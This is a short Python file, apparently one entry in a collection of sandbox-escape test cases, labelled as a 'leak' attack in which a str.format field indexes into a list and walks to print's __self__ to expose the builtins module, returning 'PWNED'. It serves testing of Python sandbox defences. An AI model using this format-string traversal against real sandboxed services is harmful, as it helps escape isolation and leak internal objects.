# attack: format-index-attribute
# layer: language
# class: leak
# success: a field that indexes and then walks
import functools
def run():
    return "PWNED " + "{0[0].__self__}".format([print])
